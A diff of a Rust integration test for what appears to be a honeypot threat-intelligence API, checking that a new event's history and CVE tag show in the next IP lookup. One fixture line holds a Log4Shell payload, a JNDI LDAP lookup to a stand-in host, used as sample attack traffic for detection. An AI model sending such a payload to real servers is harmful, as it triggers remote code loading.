@@ -243,13 +243,27 @@ fn every_endpoint_answers_from_fixture_feeds() {
     assert_eq!(full["cve"], json!([]));
     assert_eq!(full["datacenter"], Value::Null);
     assert_eq!(full["missing_sources"], json!(["cloud:azure/germany"]));
+    // Answers are kept rendered (`ip_answers.rs`), but never past a change:
+    // the host's next event and its CVE show in the very next answer.
+    let log4shell = b"GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://192.0.2.1:1389/a}\r\n\r\n";
+    assert_eq!(ingest(&server, &creds, &[event("h2", NODE_A, "81.2.69.160", "HTTP", log4shell)]).0, 200);
+    let again = ok(&server, &creds, "ip/81.2.69.160");
+    assert_eq!(
+        again["history"],
+        json!([
+            {"date": today(), "service": "HTTP", "event_count": "1"},
+            {"date": today(), "service": "SSH", "event_count": "1"}
+        ])
+    );
+    assert_eq!(again["cve"], json!([{"date": today(), "cve": "CVE-2021-44228"}]));
+    assert_eq!(again["geo"], full["geo"]);
     let cf = ok(&server, &creds, "ip/2606:4700::1111");
     assert_eq!(
         cf["datacenter"],
         json!({"provider":"cloudflare","prefix":"2606:4700::/32","region":null,"service":null})
     );
     assert_eq!(ok(&server, &creds, "ip/81.2.69.160/netinfo"), full["netinfo"]);
-    assert_eq!(ok(&server, &creds, "ip/81.2.69.160/cve"), json!([]));
+    assert_eq!(ok(&server, &creds, "ip/81.2.69.160/cve"), again["cve"]);
     // IPv4-mapped IPv6 is the IPv4 address.
     assert_eq!(ok(&server, &creds, "ip/::ffff:81.2.69.160")["geo"], london);
 
@@ -259,7 +273,7 @@ fn every_endpoint_answers_from_fixture_feeds() {
     assert_eq!(ctx["network_info"], ok(&server, &creds, "netinfo/lookup/184.105.247.194"));
     assert_eq!(ctx["threat_info"], ok(&server, &creds, "ipinfo/184.105.247.194"));
     assert_eq!(ctx["ip_history"], json!([]));
-    assert_eq!(ok(&server, &creds, "ip-context/81.2.69.160")["ip_history"], full["history"]);
+    assert_eq!(ok(&server, &creds, "ip-context/81.2.69.160")["ip_history"], again["history"]);
 
     // Not an IP: 400 everywhere.
     for path in [
